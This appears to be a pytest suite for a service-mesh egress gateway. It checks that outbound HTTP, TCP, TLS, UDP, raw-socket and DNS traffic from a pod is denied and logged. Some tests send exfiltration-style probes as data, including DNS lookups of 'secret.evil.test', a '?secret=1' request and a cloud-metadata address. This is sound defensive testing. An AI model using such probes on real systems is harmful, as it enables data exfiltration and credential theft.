"""What must not get out does not, at once, and leaves a line that says who, where to, and why."""

import json
import socket
from typing import Any

import pytest

pytestmark = [pytest.mark.root, pytest.mark.envoy]

AT_ONCE = 0.5
"""Seconds. Denials take up to 0.05 s; the promise is 0.1 s on a machine that is not busy with tests."""
PROBE = """
import errno, json, socket, sys, time
family, kind, host, port, data = json.loads(sys.argv[1])
began = time.monotonic()
try:
    with socket.socket(family, kind) as probe:
        probe.settimeout(5)
        probe.connect((host, port))
        if data is not None:
            probe.send(data.encode())
        said = probe.recv(100).decode(errors="replace")
except OSError as error:
    said = type(error).__name__
print(json.dumps([said, time.monotonic() - began]))
"""
TCP, UDP = socket.SOCK_STREAM, socket.SOCK_DGRAM


def probe(mesh: Any, pod: str, *target: Any) -> str:
    said, seconds = mesh.python(pod, PROBE, json.dumps(target))
    assert seconds < AT_ONCE
    return str(said)


@pytest.fixture(autouse=True)
def canary(mesh: Any) -> Any:
    """Nothing that a test here sends arrives outside; that the canary sees what does is the last test's control."""
    before = len(mesh.internet.canary())
    yield
    assert mesh.internet.canary(before) == []


def test_http_to_an_undeclared_address(mesh: Any, sleep: str) -> None:
    address = mesh.internet.plan.records()["canary.test", "A"][0]
    answer = mesh.curl(sleep, f"http://{address}:9999/path?secret=1")
    assert answer.startswith("403 ")
    for part in (f"pod {sleep}", "namespace default", address, "ExternalName", "spiffe://"):
        assert part in answer
    line = mesh.log(
        lambda each: (
            each["destination"] == f"{address}:9999" or each["address"] == f"{address}:9999"
        )
    )
    assert (line["decision"], line["pod"], line["namespace"]) == ("denied", sleep, "default")
    assert line["identity"] == "spiffe://cluster.local/ns/default/sa/default"
    assert line["reason"]
    assert line["time"].endswith("Z")


@pytest.mark.parametrize("data", [None, "\x00\x01\x02\x03 neither HTTP nor TLS"])
@pytest.mark.parametrize("kind", ["A", "AAAA"])
def test_tcp(mesh: Any, sleep: str, kind: str, data: str | None) -> None:
    address = mesh.internet.plan.records()["canary.test", kind][0]
    family = socket.AF_INET if kind == "A" else socket.AF_INET6
    assert probe(mesh, sleep, family, TCP, address, 9999, data) in ("", "ConnectionResetError")
    line = mesh.log(lambda each: address in each["address"] and each["protocol"] == "tcp")
    assert line["decision"] == "denied"


def test_tls(mesh: Any, sleep: str) -> None:
    address = mesh.internet.plan.records()["www.google.com", "A"][0]
    words = ("-k", "--resolve", f"www.google.com:443:{address}", "https://www.google.com/")
    assert mesh.curl(sleep, *words).startswith("000")
    line = mesh.log(lambda each: each.get("server_name") == "www.google.com")
    assert (line["decision"], line["protocol"]) == ("denied", "tls")


@pytest.mark.parametrize("address", ["::ffff:169.254.169.254", "::ffff:198.51.100.3"])
def test_ipv4_in_ipv6(mesh: Any, sleep: str, address: str) -> None:
    assert probe(mesh, sleep, socket.AF_INET6, TCP, address, 80, None) in (
        "",
        "ConnectionResetError",
    )


@pytest.mark.parametrize("port", [53, 853, 22])
def test_other_ports_and_resolvers(mesh: Any, sleep: str, port: int) -> None:
    assert probe(mesh, sleep, socket.AF_INET, TCP, mesh.internet.resolver, port, None) == ""


@pytest.mark.parametrize(("host", "family"), [("198.51.100.14", 2), ("2001:db8::1", 10)])
def test_udp(mesh: Any, sleep: str, host: str, family: int) -> None:
    assert probe(mesh, sleep, family, UDP, host, 9999, "x") in (
        "PermissionError",
        "ConnectionRefusedError",
    )
    line = mesh.log(lambda each: each["protocol"] == "udp" and host in each["address"])
    assert (line["decision"], line["pod"]) == ("denied", sleep)


def test_raw_sockets_cannot_be_had(mesh: Any, sleep: str) -> None:
    code = """
import json, socket
said = []
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1).close()
        said.append("open")
    except OSError as error:
        said.append(type(error).__name__)
print(json.dumps(said))
"""
    assert mesh.python(sleep, code) == ["PermissionError", "PermissionError"]


@pytest.mark.parametrize("server", ["127.0.0.1", "8.8.8.8"])
def test_names_never_leave(mesh: Any, sleep: str, server: str) -> None:
    code = """
import json, sys
from dnslib import DNSRecord
said = []
for name, kind in (("secret.evil.test", "A"), ("secret.evil.test", "TXT"), ("httpbin.org", "AAAA")):
    said.append(DNSRecord.parse(DNSRecord.question(name, kind).send(sys.argv[1], timeout=3)).header.rcode)
print(json.dumps(said))
"""
    # NXDOMAIN, or NOTIMP for types that are not addresses.
    output = mesh.exec(sleep, __import__("sys").executable, "-c", code, server)
    assert all(each in (3, 4) for each in json.loads(output))


def test_a_service_that_selects_pods(mesh: Any, sleep: str) -> None:
    selecting = {
        "apiVersion": "v1", "kind": "Service", "metadata": {"name": "inside"},
        "spec": {"selector": {"app": "server"}, "ports": [{"port": 80, "targetPort": 8000, "name": "http"}]},
    }  # fmt: skip
    mesh.apply(json.dumps(selecting))
    python = __import__("sys").executable
    mesh.outgate(
        "run", "-d", "--name", "server", "-l", "app=server", "--",
        python, "-m", "http.server", "8000", "--bind", "127.0.0.1", "--directory", "/etc/default",
    )  # fmt: skip
    try:
        for _ in range(50):
            if (answer := mesh.curl(sleep, "http://inside/")).startswith("200"):
                break
        assert answer.startswith("200"), answer
        # Its own loopback is a pod's own business.
        assert mesh.curl("server", "http://127.0.0.1:8000/").startswith("200")
        assert not mesh.curl(sleep, "http://127.0.0.1:8000/").startswith("200")
    finally:
        mesh.outgate("delete", "pod", "server")
        mesh.outgate("delete", "service", "inside")
